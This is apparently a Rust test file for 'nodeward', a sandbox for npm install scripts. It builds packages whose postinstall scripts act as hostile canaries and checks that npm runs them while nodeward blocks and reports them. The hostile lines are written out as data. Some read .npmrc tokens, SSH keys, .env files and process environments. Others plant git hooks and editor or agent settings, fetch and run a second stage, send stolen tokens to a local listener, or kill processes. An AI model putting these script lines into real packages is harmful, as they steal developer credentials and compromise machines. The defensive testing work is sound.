//! What install scripts do that are out for harm, as root and as an ordinary user: first through npm, to see that it
//! works; then through `nodeward install`, where nothing of it happens and the report names it.

use std::io::Read as _;
use std::net::{IpAddr, TcpListener, UdpSocket};
use std::process::{Child, Command};
use std::time::Duration;
use std::{fs, thread};

use serde_json::{Value, json};

use crate::exec::{User, own_address, users};
use crate::installed::Project;

const CANARY: &str = "canary";

/// What a package does, where that shows, and what the report names. `$R` is the folder that all is in, `$P` a
/// process outside, `$A` this machine, `$T` and `$U` ports of services of it.
struct Attack {
    name: &'static str,
    script: &'static str,
    /// A file whose content tells, and what it holds where the attack came through.
    shows: (&'static str, Shows),
    /// The act and a part of its subject; or a variable that is withheld.
    told: (&'static str, &'static str),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shows {
    /// The file holds the canary.
    Canary,
    /// The file is not there any more.
    Gone,
}

const fn attack(
    name: &'static str,
    script: &'static str,
    shows: (&'static str, Shows),
    told: (&'static str, &'static str),
) -> Attack {
    Attack { name, script, shows, told }
}

use Shows::{Canary, Gone};

const ATTACKS: &[Attack] = &[
    // What is secret, read. The file is in the package: where it was made, it was kept.
    attack(
        "reads-npmrc",
        "cat \"$R/house/.npmrc\" > stolen || true",
        ("p/node_modules/reads-npmrc/stolen", Canary),
        ("read", "/house/.npmrc"),
    ),
    attack(
        "reads-home",
        "cat \"$HOME/.npmrc\" > stolen || true",
        ("p/node_modules/reads-home/stolen", Canary),
        ("read", "/.npmrc"),
    ),
    attack(
        "reads-ssh",
        "cat \"$R/house/.ssh/id_fake\" > stolen || true",
        ("p/node_modules/reads-ssh/stolen", Canary),
        ("read", "/house/.ssh/id_fake"),
    ),
    attack(
        "reads-linked",
        "ln -s \"$R/house\" way && cat way/.npmrc > stolen || true",
        ("p/node_modules/reads-linked/stolen", Canary),
        ("read", "/house/.npmrc"),
    ),
    attack(
        "reads-environ",
        "tr '\\0' '\\n' < \"/proc/$P/environ\" > stolen || true",
        ("p/node_modules/reads-environ/stolen", Canary),
        ("read", "/environ"),
    ),
    // That it asks for one is not seen: which it did not get is told.
    attack(
        "reads-variables",
        "env > stolen",
        ("p/node_modules/reads-variables/stolen", Canary),
        ("withheld", "SECRET_TOKEN"),
    ),
    attack(
        "reads-project",
        "cat ../../.env > stolen || true",
        ("p/node_modules/reads-project/stolen", Canary),
        ("read", "/p/.env"),
    ),
    // What is not its own, written.
    attack(
        "writes-modules",
        "echo canary > ../written.js || true",
        ("p/node_modules/written.js", Canary),
        ("write", "/node_modules/written.js"),
    ),
    attack(
        "writes-neighbour",
        "echo canary > ../victim/index.js || true",
        ("p/node_modules/victim/index.js", Canary),
        ("write", "/victim/index.js"),
    ),
    attack(
        "writes-hooks",
        "echo canary > ../../.git/hooks/post-checkout || true",
        ("p/.git/hooks/post-checkout", Canary),
        ("write", "/.git"),
    ),
    attack(
        "writes-editor",
        "mkdir -p ../../.vscode && echo canary > ../../.vscode/tasks.json || true",
        ("p/.vscode/tasks.json", Canary),
        ("write", "/.vscode"),
    ),
    attack(
        "writes-agent",
        "mkdir -p ../../.claude && echo canary > ../../.claude/settings.json || true",
        ("p/.claude/settings.json", Canary),
        ("write", "/.claude"),
    ),
    attack(
        "writes-manifest",
        "sed -i 's/\"version\"/\"canary\": 1, \"version\"/' ../../package.json || true",
        ("p/package.json", Canary),
        ("read", "/p/package.json"),
    ),
    attack(
        "writes-path",
        "echo canary > \"$R/bin/tool\" || true",
        ("bin/tool", Canary),
        ("write", "/bin/tool"),
    ),
    attack(
        "writes-record",
        "echo canary > ../.nodeward-installed.json || true",
        ("p/node_modules/.nodeward-installed.json", Canary),
        ("write", "/.nodeward-installed.json"),
    ),
    attack(
        "renames-out",
        "echo canary > mine && mv mine ../moved || true",
        ("p/node_modules/moved", Canary),
        ("write", "/node_modules/moved"),
    ),
    attack(
        "renames-in",
        "mv ../taken taken || true",
        ("p/node_modules/taken/index.js", Gone),
        ("write", "/taken"),
    ),
    attack(
        "removes-decoy",
        "rm -rf \"$R/house/decoy\" || true",
        ("house/decoy/file", Gone),
        ("write", "/house/decoy"),
    ),
    attack(
        "knows-its-victim",
        "[ \"$npm_package_name\" = knows-its-victim ] && echo canary > ../../payload.js || true",
        ("p/payload.js", Canary),
        ("write", "/p/payload.js"),
    ),
    // The network, and other processes.
    attack("connects", "node ../net.js tcp $A $T || true", ("tcp", Canary), ("connect", ":")),
    attack(
        "downloads",
        "node ../net.js get $A $T && sh ./second-stage || true",
        ("second", Canary),
        ("connect", ":"),
    ),
    attack(
        "publishes",
        "node ../net.js put $A $T \"$(cat \"$R/house/.npmrc\" 2>/dev/null)\" || true",
        ("published", Canary),
        ("connect", ":"),
    ),
    attack(
        "publishes-often",
        "for i in $(seq 20); do node ../net.js put $A $T canary; done || true",
        ("published", Canary),
        ("connect", ":"),
    ),
    attack("sends", "node ../net.js udp $A $U || true", ("udp", Canary), ("connect", ":")),
    attack("signals", "kill -9 $P || true", ("outside", Gone), ("signal", "process")),
    attack(
        "stays",
        "(sleep 1; echo canary > late; echo canary > \"$R/late\") > /dev/null 2>&1 &",
        ("late", Canary),
        ("outlive", "sleep 1"),
    ),
];

/// What the scripts of the network do.
const NET: &str = r#"
const [kind, host, port, text] = process.argv.slice(2);
const done = (error) => process.exit(error ? 1 : 0);
if (kind === "udp") {
  require("dgram").createSocket("udp4").send("canary", port, host, done);
} else if (kind === "tcp") {
  require("net").connect(port, host).on("error", done).end("TCP canary", () => setTimeout(done, 50));
} else {
  const options = { host, port, path: "/" + kind, method: kind.toUpperCase(), headers: { connection: "close" } };
  require("http").request(options, (answer) => {
    let body = "";
    answer.on("data", (part) => (body += part)).on("end", () => { require("fs").writeFileSync("second-stage", body); done(); });
  }).on("error", done).end(text);
}
"#;

/// Services of this machine, which note down who came, and a process that runs.
struct Outside {
    tcp: u16,
    udp: u16,
    process: Child,
}

impl Outside {
    fn new(project: &Project, address: IpAddr) -> Self {
        let (tcp, udp) = (TcpListener::bind((address, 0)).unwrap(), UdpSocket::bind((address, 0)).unwrap());
        let ports = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
        let root = project.path("");
        let served = root.clone();
        thread::spawn(move || {
            while let Ok((mut stream, _)) = tcp.accept() {
                stream.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
                let mut asked = [0; 2000];
                let read = stream.read(&mut asked).unwrap_or(0);
                let mut text = String::from_utf8_lossy(&asked[..read]).into_owned();
                if text.starts_with("PUT") && !text.contains(CANARY) {
                    let read = stream.read(&mut asked).unwrap_or(0);
                    text += &String::from_utf8_lossy(&asked[..read]);
                }
                let body = format!("echo canary > '{}'", served.join("second").display());
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = std::io::Write::write_all(&mut stream, answer.as_bytes());
                let noted = if text.starts_with("PUT") { "published" } else { "tcp" };
                if !text.starts_with("GET") {
                    fs::write(served.join(noted), text).unwrap();
                }
            }
        });
        thread::spawn(move || {
            let mut packet = [0; 100];
            while let Ok((read, _)) = udp.recv_from(&mut packet) {
                fs::write(root.join("udp"), &packet[..read]).unwrap();
            }
        });
        let mut command = project.command("sleep");
        let process = command.arg("600").env("CANARY", CANARY).spawn().unwrap();
        while !fs::read_to_string(format!("/proc/{}/comm", process.id())).is_ok_and(|name| name == "sleep\n")
        {
            thread::sleep(Duration::from_millis(5));
        }
        Self { tcp: ports.0, udp: ports.1, process }
    }

    fn is_alive(&mut self) -> bool {
        self.process.try_wait().unwrap().is_none()
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// A developer's folder with all the packages in it.
fn machine(user: User, address: IpAddr) -> (Project, Outside) {
    let packages: Vec<_> = ATTACKS.iter().map(|attack| (attack.name, json!({}), &[][..])).collect();
    let project = Project::with(user, &packages, &[]);
    for (path, text) in [
        ("house/.npmrc", "//registry.example.org/:_authToken=canary"),
        ("house/.ssh/id_fake", CANARY),
        ("house/decoy/file", "kept"),
        ("p/.env", "TOKEN=canary"),
        ("p/.git/hooks/pre-commit", "kept"),
        ("p/node_modules/victim/index.js", "kept"),
        ("p/node_modules/taken/index.js", "kept"),
        ("p/node_modules/net.js", NET),
        ("bin/tool", "kept"),
    ] {
        project.write(path, text);
    }
    let outside = Outside::new(&project, address);
    let mut lockfile: Value = serde_json::from_str(&project.read("p/package-lock.json").unwrap()).unwrap();
    for attack in ATTACKS {
        let root = project.path("").display().to_string();
        let script = attack.script.replace("$R", root.trim_end_matches('/'));
        let script =
            script.replace("$P", &outside.process.id().to_string()).replace("$A", &address.to_string());
        let script = script.replace("$T", &outside.tcp.to_string()).replace("$U", &outside.udp.to_string());
        let manifest =
            json!({ "name": attack.name, "version": "1.0.0", "scripts": { "postinstall": script } });
        project.write(&format!("p/node_modules/{}/package.json", attack.name), &manifest.to_string());
        lockfile["packages"][format!("node_modules/{}", attack.name)]["hasInstallScript"] = true.into();
    }
    project.write("p/package-lock.json", &lockfile.to_string());
    project.own();
    (project, outside)
}

/// The names of the attacks of which something shows.
fn came_through(project: &Project, outside: &mut Outside) -> Vec<&'static str> {
    // What stays behind writes late.
    thread::sleep(Duration::from_millis(1500));
    let mut shown = Vec::new();
    for attack in ATTACKS {
        let (file, shows) = attack.shows;
        let is_there = match (file, shows) {
            ("outside", _) => !outside.is_alive(),
            (_, Canary) => project.read(file).is_some_and(|text| text.contains(CANARY)),
            (_, Gone) => project.read(file).is_none(),
        };
        if is_there {
            shown.push(attack.name);
        }
    }
    shown
}

fn told(report: &Value, attack: &Attack) -> bool {
    let (act, subject) = attack.told;
    let packages = report["packages"].as_array().into_iter().flatten();
    let scripts: Vec<&Value> = packages
        .filter(|package| package["package"] == format!("{}@1.0.0", attack.name))
        .flat_map(|package| package["scripts"].as_array().into_iter().flatten())
        .collect();
    let list = |name| scripts.iter().flat_map(move |script| script[name].as_array().into_iter().flatten());
    if act == "withheld" {
        return list("withheld").any(|name| name == subject);
    }
    list("events").any(|event| {
        event["act"] == act
            && event["fate"] == "denied"
            && event["subject"].as_str().unwrap().contains(subject)
    })
}

fn has_npm() -> bool {
    Command::new("npm").arg("--version").output().is_ok_and(|output| output.status.success())
}

#[test]
fn every_attack_works_with_npm_and_none_with_nodeward() {
    if users().is_empty() || !has_npm() {
        return;
    }
    let Some(address) = own_address() else { return };
    for user in users() {
        let all: Vec<&str> = ATTACKS.iter().map(|attack| attack.name).collect();
        let (project, mut outside) = machine(user, address);
        let mut npm = project.command("npm");
        npm.args(["rebuild", "--foreground-scripts", "--offline"]).env_remove("npm_config_ignore_scripts");
        let output = npm.output().unwrap();
        let shown = came_through(&project, &mut outside);
        let missing: Vec<_> = all.iter().filter(|name| !shown.contains(name)).collect();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(missing.is_empty(), "{user:?}: {missing:?} do nothing with npm: {said}");

        let (project, mut outside) = machine(user, address);
        let names: Vec<&str> = all.iter().flat_map(|name| ["--allow", name]).collect();
        let (code, text, report) = project.install_with(&[&names[..], &["--reason", "a trial"]].concat());
        assert_eq!(code, Some(0), "{user:?}: {text}");
        assert_eq!(came_through(&project, &mut outside), [""; 0], "{user:?}: {text}");
        let untold: Vec<_> =
            ATTACKS.iter().filter(|attack| !told(&report, attack)).map(|one| one.name).collect();
        assert!(untold.is_empty(), "{user:?}: the report is silent on {untold:?}: {text}");
    }
}
